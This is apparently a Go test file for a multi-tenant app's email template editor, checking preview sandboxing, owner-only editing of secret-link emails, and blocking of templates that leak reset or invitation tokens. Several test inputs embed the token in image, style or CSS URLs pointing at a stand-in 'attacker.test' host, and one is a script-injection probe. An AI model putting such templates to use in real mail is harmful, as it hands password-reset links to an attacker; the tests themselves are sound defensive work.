package web_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/nself/nself/internal/tenancy"
)

// The mail sent is the tenant's own template once it has one, and the
// default again after a reset; other tenants keep the default.
func TestSentMailUsesCustomizedTemplates(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	acme, beta := e.mustTenant("acme"), e.mustTenant("beta")
	svc := e.server.EmailTemplates
	if _, err := svc.Customize(e.ctx, acme.ID, "invitation", "Join {{TENANT_NAME}}, {{USER_NAME}}",
		`<p>From <<INVITER_NAME>>: <a href="{{ACTION_URL}}">join</a></p>`, "", tenancy.PlatformActor()); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Customize(e.ctx, acme.ID, "password_reset", "Acme reset", `<p><a href="{{ACTION_URL}}">Reset</a></p>`, "Reset here: {{ACTION_URL}}", tenancy.PlatformActor()); err != nil {
		t.Fatal(err)
	}

	owner := e.signedIn(acme, "owner@acme.test", tenancy.RoleOwner)
	mustInviteThroughPage(t, e, owner, "new@example.test", `<b>New</b>`, "member")
	m := e.mail.sent[len(e.mail.sent)-1]
	if m.Subject != "Join Acme Inc, <b>New</b>" || !strings.Contains(m.HTML, "From Name of owner@acme.test: <a href=\"http://acme.nself.test/invitations/accept?token=") {
		t.Errorf("invitation: %q\n%s", m.Subject, m.HTML)
	}
	if !strings.HasPrefix(m.Text, "From Name of owner@acme.test: join: http://acme.nself.test/invitations/accept?token=") {
		t.Errorf("derived text: %q", m.Text)
	}

	forgot := func(t *tenancy.Tenant, email string) tenancy.Message {
		c := e.client(t.Slug + ".nself.test")
		c.get("/password/forgot")
		n := len(e.mail.sent)
		if resp, _ := c.post("/password/forgot", url.Values{"email": {email}}); resp.StatusCode != http.StatusOK || len(e.mail.sent) != n+1 {
			e.t.Fatalf("forgot: %d, %d mails", resp.StatusCode, len(e.mail.sent)-n)
		}
		return e.mail.sent[n]
	}
	m = forgot(acme, "owner@acme.test")
	if m.Subject != "Acme reset" || !strings.HasPrefix(m.Text, "Reset here: http://acme.nself.test/password/reset?token=") {
		t.Errorf("reset: %q %q", m.Subject, m.Text)
	}
	e.mustMember(beta, "owner@beta.test", tenancy.RoleOwner)
	if m = forgot(beta, "owner@beta.test"); m.Subject != "Reset your Beta Inc password" {
		t.Errorf("beta's reset: %q", m.Subject)
	}
	if _, err := svc.Reset(e.ctx, acme.ID, "password_reset", tenancy.PlatformActor()); err != nil {
		t.Fatal(err)
	}
	if m = forgot(acme, "owner@acme.test"); m.Subject != "Reset your Acme Inc password" {
		t.Errorf("after reset: %q", m.Subject)
	}
}

// htmxPost posts a form as htmx does, with the CSRF token in its header.
func htmxPost(c *client, path string, form url.Values) (*http.Response, string) {
	c.t.Helper()
	req, _ := http.NewRequest(http.MethodPost, c.url(path), strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("HX-Request", "true")
	req.Header.Set("X-CSRF-Token", c.csrf)
	return c.do(req)
}

func TestEmailTemplateEditor(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	acme, beta := e.mustTenant("acme"), e.mustTenant("beta")
	admin := e.signedIn(acme, "admin@acme.test", tenancy.RoleAdmin)

	resp, body := admin.get("/settings/emails")
	if resp.StatusCode != 200 {
		t.Fatalf("list: %d", resp.StatusCode)
	}
	if got := rowTexts(t, body, "email-template-state"); len(got) != len(tenancy.EmailTemplateNames) || got[0] != "default" {
		t.Errorf("states = %v", got)
	}
	if nav := byTestID(doc(t, body), "nav-email-templates"); len(nav) != 1 || attr(nav[0], "href") != "/settings/emails" {
		t.Errorf("nav: %v", nav)
	}

	resp, body = admin.get("/settings/emails/welcome")
	if resp.StatusCode != 200 || attr(byTestID(doc(t, body), "email-subject")[0], "value") != "Welcome to {{TENANT_NAME}}!" ||
		!strings.Contains(textOf(t, body, "email-html"), `href="{{ACTION_URL}}"`) {
		t.Fatalf("editor: %d", resp.StatusCode)
	}
	forms := byTestID(doc(t, body), "email-template-form")
	if len(forms) != 1 || attr(forms[0], "hx-post") != "/settings/emails/welcome/preview" || attr(forms[0], "hx-target") != "#email-preview" ||
		!strings.Contains(attr(forms[0], "hx-trigger"), "delay:") {
		t.Errorf("form: %v", forms)
	}
	if len(byTestID(doc(t, body), "preview-frame")) != 1 || len(byTestID(doc(t, body), "email-reset")) != 0 {
		t.Error("editor lacks its preview, or offers a reset of the default")
	}

	// The live preview shows the unsaved values, with sample variables.
	resp, body = htmxPost(admin, "/settings/emails/welcome/preview", url.Values{
		"subject": {"Hi from {{TENANT_NAME}}"}, "html": {"<p style=\"color:red\">Dear <<USER_NAME>></p><script>alert(1)</script>"}})
	if resp.StatusCode != 200 || textOf(t, body, "preview-subject") != "Hi from Acme Inc" {
		t.Fatalf("preview: %d %s", resp.StatusCode, body)
	}
	frames := byTestID(doc(t, body), "preview-frame")
	if len(frames) != 1 || attr(frames[0], "sandbox") != "" || !strings.HasPrefix(attr(frames[0], "src"), "/settings/emails/welcome/preview.html?d=") {
		t.Fatalf("frame: %v", frames)
	}
	src := attr(frames[0], "src")
	resp, page := admin.get(src)
	if resp.StatusCode != 200 || page != `<p style="color:red">Dear Ann Example</p><script>alert(1)</script>` {
		t.Errorf("frame: %d %q", resp.StatusCode, page)
	}
	if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "sandbox") || strings.Contains(csp, "script-src") || !strings.Contains(csp, "default-src 'none'") {
		t.Errorf("preview CSP = %q", csp)
	}
	// Another tenant's admin cannot fetch it.
	other := e.signedIn(beta, "admin@beta.test", tenancy.RoleAdmin)
	if resp, _ := other.get(src); resp.StatusCode != http.StatusNotFound {
		t.Errorf("other tenant fetched the draft: %d", resp.StatusCode)
	}

	// A bad variable shows in the preview, and next to its field on save.
	_, body = htmxPost(admin, "/settings/emails/welcome/preview", url.Values{"subject": {"Hi"}, "html": {"<p>ok</p>\n<p>{{FIRST_NAME}}</p>"}})
	if got := textOf(t, body, "preview-error"); !strings.Contains(got, "HTML body: unknown variable FIRST_NAME on line 2") {
		t.Errorf("preview error = %q", got)
	}
	admin.get("/settings/emails/welcome")
	resp, body = admin.post("/settings/emails/welcome", url.Values{"subject": {"Hi {{TENANT_NAME"}, "html": {"<p>ok</p>"}})
	if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(textOf(t, body, "error-subject"), "Unclosed variable") {
		t.Errorf("bad subject: %d", resp.StatusCode)
	}
	resp, body = admin.post("/settings/emails/welcome", url.Values{"subject": {"Hi"}, "html": {"<p>ok</p>\n<p>{{FIRST_NAME}}</p>"}})
	if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(textOf(t, body, "error-html"), "Unknown variable FIRST_NAME on line 2") ||
		!strings.Contains(textOf(t, body, "email-html"), "{{FIRST_NAME}}") {
		t.Errorf("bad html: %d", resp.StatusCode)
	}
	if got, _ := e.server.EmailTemplates.Get(e.ctx, acme.ID, "welcome"); got.Customized {
		t.Error("an invalid template was saved")
	}

	// Save, then reset.
	resp, _ = admin.post("/settings/emails/welcome", url.Values{"subject": {"Hello from {{TENANT_NAME}}"}, "html": {"<p>Dear {{USER_NAME}}</p>"}})
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/settings/emails/welcome" {
		t.Fatalf("save: %d", resp.StatusCode)
	}
	got, _ := e.server.EmailTemplates.Get(e.ctx, acme.ID, "welcome")
	if !got.Customized || got.Subject != "Hello from {{TENANT_NAME}}" || got.Text != "Dear {{USER_NAME}}\n" {
		t.Errorf("saved: %+v", got)
	}
	_, body = admin.get("/settings/emails")
	if got := rowTexts(t, body, "email-template-state"); !strings.HasPrefix(got[0], "customized") {
		t.Errorf("states after save = %v", got)
	}
	_, body = admin.get("/settings/emails/welcome")
	if len(byTestID(doc(t, body), "email-reset")) != 1 {
		t.Fatal("no reset button for a customized template")
	}
	if resp, _ := admin.post("/settings/emails/welcome/reset", nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("reset: %d", resp.StatusCode)
	}
	if got, _ := e.server.EmailTemplates.Get(e.ctx, acme.ID, "welcome"); got.Customized {
		t.Error("still customized after reset")
	}

	if resp, _ := admin.get("/settings/emails/newsletter"); resp.StatusCode != http.StatusNotFound {
		t.Errorf("unknown template: %d", resp.StatusCode)
	}
	member := e.signedIn(acme, "member@acme.test", tenancy.RoleMember)
	if resp, _ := member.get("/settings/emails"); resp.StatusCode != http.StatusForbidden {
		t.Errorf("member opened the editor: %d", resp.StatusCode)
	}
}

// Emails that carry a secret link are an owner's to change: an admin sees
// them read-only, with why, and is refused if they post anyway.
func TestSecretLinkEmailsAreOwnersOnly(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	acme := e.mustTenant("acme")
	owner := e.signedIn(acme, "owner@acme.test", tenancy.RoleOwner)
	admin := e.signedIn(acme, "admin@acme.test", tenancy.RoleAdmin)

	_, body := admin.get("/settings/emails")
	for _, row := range byTestID(doc(t, body), "email-template-row") {
		name, secret := attr(row, "data-name"), tenancy.CarriesSecretLink(attr(row, "data-name"))
		if got := len(byTestID(row, "email-template-owners-only")) == 1; got != secret {
			t.Errorf("%s: owners-only mark %v", name, got)
		}
		if link := strings.TrimSpace(text(byTestID(row, "email-template-edit")[0])); strings.HasSuffix(link, "(view)") != secret {
			t.Errorf("%s: link %q", name, link)
		}
	}

	for _, name := range []string{"password_reset", "invitation"} {
		// The owner's own version, which the admin must not undo either.
		owner.get("/settings/emails/" + name)
		if resp, body := owner.post("/settings/emails/"+name, url.Values{"subject": {"Owner's " + name},
			"html": {`<p><a href="{{ACTION_URL}}">Go</a></p>`}}); resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("owner saves %s: %d %s", name, resp.StatusCode, textOf(t, body, "error-html"))
		}

		resp, body := admin.get("/settings/emails/" + name)
		if resp.StatusCode != http.StatusOK || !strings.Contains(textOf(t, body, "email-template-read-only"), "only an owner can change the "+name+" email") {
			t.Errorf("%s: admin's view %d %q", name, resp.StatusCode, textOf(t, body, "email-template-read-only"))
		}
		page := doc(t, body)
		if len(byTestID(page, "email-save")) != 0 || len(byTestID(page, "email-reset")) != 0 {
			t.Errorf("%s: the admin is offered save or reset", name)
		}
		for _, id := range []string{"email-subject", "email-html"} {
			if f := byTestID(page, id); len(f) != 1 || !hasAttr(f[0], "readonly") {
				t.Errorf("%s: %s is not read-only", name, id)
			}
		}

		resp, body = admin.post("/settings/emails/"+name, url.Values{"subject": {"Hi"},
			"html": {`<img src="https://attacker.test/p.gif?u={{ACTION_URL}}">`}})
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "only an owner can change the "+name+" email") {
			t.Errorf("%s: admin's save answered %d", name, resp.StatusCode)
		}
		if resp, _ := admin.post("/settings/emails/"+name+"/reset", nil); resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s: admin's reset answered %d", name, resp.StatusCode)
		}
		if got, _ := e.server.EmailTemplates.Get(e.ctx, acme.ID, name); got.Subject != "Owner's "+name {
			t.Errorf("%s: after the admin, subject %q", name, got.Subject)
		}
	}
	// The admin still edits the emails without a secret link.
	admin.get("/settings/emails/welcome")
	if resp, _ := admin.post("/settings/emails/welcome", url.Values{"subject": {"Hello"}, "html": {`<p><a href="{{ACTION_URL}}">Start</a></p>`}}); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("admin saves welcome: %d", resp.StatusCode)
	}
}

func hasAttr(n *html.Node, name string) bool {
	for _, a := range n.Attr {
		if a.Key == name {
			return true
		}
	}
	return false
}

// An owner is refused the placements that would hand the link to someone
// else, with the message next to the field, and may place it as a link.
func TestEmailLinkPlacementThroughEditor(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	acme := e.mustTenant("acme")
	owner := e.signedIn(acme, "owner@acme.test", tenancy.RoleOwner)
	for _, tc := range []struct {
		name, subject, html, field, want string
	}{
		{"img", "Reset", `<p>Hi</p><img src="https://attacker.test/p.gif?u={{ACTION_URL}}">`, "html", "{{ACTION_URL}} on line 1 is in the src attribute of <img>"},
		{"url parameter", "Reset", `<a href="https://attacker.test/r?to={{ACTION_URL}}">Reset</a>`, "html", "part of a longer address"},
		{"style", "Reset", `<td style="background-image:url('{{ACTION_URL}}')">x</td>`, "html", "in the style attribute of <td>"},
		{"css url", "Reset", "<style>\nbody { background: url(https://attacker.test/?<<ACTION_URL>>) }\n</style>", "html", "inside <style>"},
		{"text", "Reset", `<p>Paste {{ ACTION_URL }} into your browser</p>`, "html", "in the text"},
		{"subject", "Reset {{ACTION_URL}}", `<a href="{{ACTION_URL}}">Reset</a>`, "subject", "The subject cannot hold"},
	} {
		for _, name := range []string{"password_reset", "invitation"} {
			owner.get("/settings/emails/" + name)
			resp, body := owner.post("/settings/emails/"+name, url.Values{"subject": {tc.subject}, "html": {tc.html}})
			if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(textOf(t, body, "error-"+tc.field), tc.want) {
				t.Errorf("%s %s: %d %q", tc.name, name, resp.StatusCode, textOf(t, body, "error-"+tc.field))
			}
			if textOf(t, body, "email-html") != strings.Join(strings.Fields(tc.html), " ") {
				t.Errorf("%s %s: the editor lost the unsaved HTML", tc.name, name)
			}
			// The live preview says the same.
			_, body = htmxPost(owner, "/settings/emails/"+name+"/preview", url.Values{"subject": {tc.subject}, "html": {tc.html}})
			if got := textOf(t, body, "preview-error"); !strings.Contains(strings.ToLower(got), strings.ToLower(tc.want)) {
				t.Errorf("%s %s: preview error %q", tc.name, name, got)
			}
			if got, _ := e.server.EmailTemplates.Get(e.ctx, acme.ID, name); got.Customized {
				t.Fatalf("%s %s: saved", tc.name, name)
			}
		}
	}
	owner.get("/settings/emails/password_reset")
	resp, _ := owner.post("/settings/emails/password_reset", url.Values{"subject": {"Reset for {{USER_NAME}}"},
		"html": {`<p><img src="{{LOGO_URL}}" alt=""> <a href="{{ACTION_URL}}" style="color:{{PRIMARY_COLOR}}">Choose a password</a></p>`}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("link as href: %d", resp.StatusCode)
	}
}

// A template saved before these rules, with the link where it leaks, is
// never sent: the mail goes out with the default instead.
func TestLeakyStoredTemplateIsNotSent(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	acme := e.mustTenant("acme")
	e.mustMember(acme, "owner@acme.test", tenancy.RoleOwner)
	tx, err := e.db.App.Begin(e.ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer tx.Rollback(e.ctx)
	if _, err := tx.Exec(e.ctx, `SELECT tenants.set_context($1, NULL)`, acme.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := tx.Exec(e.ctx, `
		INSERT INTO tenants.tenant_email_templates (tenant_id, name, subject, html, text)
		VALUES ($1, 'password_reset', 'Leaky', '<img src="https://attacker.test/p.gif?u={{ACTION_URL}}">', 'x')`, acme.ID); err != nil {
		t.Fatal(err)
	}
	if err := tx.Commit(e.ctx); err != nil {
		t.Fatal(err)
	}
	c := e.client("acme.nself.test")
	c.get("/password/forgot")
	if resp, _ := c.post("/password/forgot", url.Values{"email": {"owner@acme.test"}}); resp.StatusCode != http.StatusOK {
		t.Fatalf("forgot: %d", resp.StatusCode)
	}
	sent := e.mail.messages("password_reset")
	if len(sent) != 1 {
		t.Fatalf("%d mails", len(sent))
	}
	if m := sent[0]; m.Subject != "Reset your Acme Inc password" || strings.Contains(m.HTML, "attacker.test") {
		t.Errorf("sent %q\n%s", m.Subject, m.HTML)
	}
}
